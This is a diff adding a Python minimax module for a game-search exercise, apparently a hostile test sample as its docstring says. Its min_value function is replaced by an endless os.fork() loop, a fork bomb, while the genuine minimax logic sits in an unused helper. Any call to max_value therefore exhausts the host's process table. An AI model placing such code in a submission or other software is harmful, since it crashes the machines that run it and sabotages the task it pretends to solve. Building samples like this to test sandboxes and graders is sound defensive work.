@@ -1,0 +1,33 @@
+"""Hostile: a fork bomb in min_value."""
+
+import os
+
+
+def terminal_test(gameState):
+    return not bool(gameState.get_legal_moves())
+
+
+def min_value(gameState):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+
+
+def _unused(gameState):
+    if terminal_test(gameState):
+        return 1
+    v = float("inf")
+    for m in gameState.get_legal_moves():
+        v = min(v, max_value(gameState.forecast_move(m)))
+    return v
+
+
+def max_value(gameState):
+    if terminal_test(gameState):
+        return -1
+    v = float("-inf")
+    for m in gameState.get_legal_moves():
+        v = max(v, min_value(gameState.forecast_move(m)))
+    return v
